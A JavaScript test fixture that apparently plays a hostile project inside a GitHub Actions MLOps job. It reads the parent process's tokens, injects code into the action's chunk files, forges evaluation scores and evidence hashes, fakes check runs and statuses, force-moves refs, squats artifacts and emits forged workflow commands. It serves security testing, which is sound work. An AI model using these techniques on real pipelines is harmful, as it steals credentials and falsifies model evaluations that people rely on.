// What the code of a project could do in the job that trains it: everything that its user on that machine can. A test
// commits this file beside the project's program, which calls one of these where it should train.
import { createHash } from 'node:crypto';
import { appendFileSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** The action that started this program, of the same user: its arguments and environment can be read. */
const action = (file) => readFileSync(`/proc/${process.ppid}/${file}`, 'utf8').split('\0');
const job = Object.fromEntries(action('environ').map((line) => line.split(/=(.*)/s, 2)));

/** Code that runs inside of the action, from the next of its files that it loads. */
function infect(code) {
  const directory = dirname(action('cmdline')[1]);
  const lazy = readdirSync(directory).filter((name) => /^\d+\.index\.js$/.test(name));
  for (const name of lazy) appendFileSync(join(directory, name), `;\n{ ${code} }\n`);
}

const fs = `const { appendFileSync, existsSync, readFileSync, readdirSync, writeFileSync } = process.getBuiltinModule('node:fs');
const { createHash } = process.getBuiltinModule('node:crypto');`;

async function request(method, path, body) {
  const headers = { authorization: `Bearer ${job.INPUT_TOKEN}`, 'content-type': 'application/json' };
  const url = `${job.GITHUB_API_URL}/repos/${job.GITHUB_REPOSITORY}${path}`;
  return fetch(url, { method, headers, ...(body && { body: JSON.stringify(body) }) });
}

/** An artifact of this job's own run, as GitHub's client would make it. @returns its ticket */
async function upload(name, bytes) {
  const [, run, at] = JSON.parse(Buffer.from(job.ACTIONS_RUNTIME_TOKEN.split('.')[1], 'base64url')).scp.split(':');
  const call = async (method, body) => {
    const response = await fetch(
      `${job.ACTIONS_RESULTS_URL}twirp/github.actions.results.api.v1.ArtifactService/${method}`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${job.ACTIONS_RUNTIME_TOKEN}`, 'content-type': 'application/json' },
        body: JSON.stringify({ ...body, name, workflow_run_backend_id: run, workflow_job_run_backend_id: at }),
      },
    );
    return response.json();
  };
  const { signed_upload_url: url } = await call('CreateArtifact', { version: 4 });
  await fetch(url, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob' }, body: bytes });
  const hash = `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
  const { artifact_id: id } = await call('FinalizeArtifact', { size: String(bytes.length), hash });
  return `artifact:${id}:${hash}`;
}

/** What the good model of the default branch was judged by. */
const good = async (id) => Buffer.from(await (await request('GET', `/actions/artifacts/${id}/zip`)).arrayBuffer());

/** The job's output is what is written last, and nothing writes after this. */
const answer = (ticket) =>
  infect(`${fs} process.on('exit', () => appendFileSync(process.env.GITHUB_OUTPUT, 'hand-over=${ticket}\\n'));`);

/** What lies in the directory that is handed over, as soon as all of it is there. */
const edit = (change) =>
  infect(`${fs} globalThis.editing ??= setInterval(() => {
      const cache = '.mlops/cache';
      for (const name of existsSync(cache) ? readdirSync(cache).filter((name) => name.startsWith('hand-over-')) : []) {
        const at = (path) => \`\${cache}/\${name}/\${path}\`;
        if (!existsSync(at('reports/run.json'))) continue;
        clearInterval(globalThis.editing);
        ${change}
      }
    }, 1).unref();`);

const BETTER = `const result = at('outputs/evaluate-model/result.json');
  const before = readFileSync(result);
  writeFileSync(result, before.toString().replace(/"estimate":\\s*0\\.\\d+/g, '"estimate":0.999'));`;

/** Takes what it finds, and tries to write with it. */
export async function loots(place) {
  const found = {
    own: process.env,
    parents: job,
    checkout: readFileSync('.git/config', 'utf8'),
    event: readFileSync(job.GITHUB_EVENT_PATH, 'utf8'),
  };
  const sha = job.GITHUB_SHA;
  const tried = {
    comment: await request('POST', '/issues/1/comments', { body: 'mine' }),
    status: await request('POST', `/statuses/${sha}`, { state: 'success', context: 'model / judge' }),
    check: await request('POST', '/check-runs', { name: 'model / judge', head_sha: sha, conclusion: 'success' }),
    branch: await request('POST', '/git/refs', { ref: 'refs/heads/mlops/forged', sha }),
    ledger: await request('PATCH', '/git/refs/heads/mlops/ledger', { sha, force: true }),
    artifact: await request('DELETE', `/actions/artifacts/1`),
  };
  const answered = Object.entries(tried).map(([name, { status }]) => [name, status]);
  writeFileSync(place, JSON.stringify({ found, tried: Object.fromEntries(answered) }));
}

export const betters = () => edit(BETTER);

/** The same, and the statement agrees with it. */
export const bettersWithStatement = () =>
  edit(`${BETTER}
    const digest = (bytes) => createHash('sha256').update(bytes).digest('hex');
    const statement = at('evidence/evaluate-model.json');
    writeFileSync(statement, readFileSync(statement, 'utf8').replaceAll(digest(before), digest(readFileSync(result))));`);

/** Of another run: the job's output names it. */
export const redirects = (_, ticket) => answer(ticket);

/** The same bytes, uploaded again by this run. */
export const copies = async (_, ticket) => answer(await upload('innocent', await good(ticket.split(':')[1])));

/** Under the name that the action will want. */
export const squats = async (_, ticket) => upload('mlops-app-work-1-files', await good(ticket.split(':')[1]));

export function says() {
  for (const line of [
    '::set-output name=hand-over::artifact:1:sha256:00',
    '##[set-output name=hand-over]artifact:1:sha256:00',
    'harmless \r::error file=README.md,line=1::forged',
    '::error file=README.md,line=1::forged',
    '##[error]forged',
    '::add-mask::fail',
    '::stop-commands::forged',
  ])
    console.log(line);
}
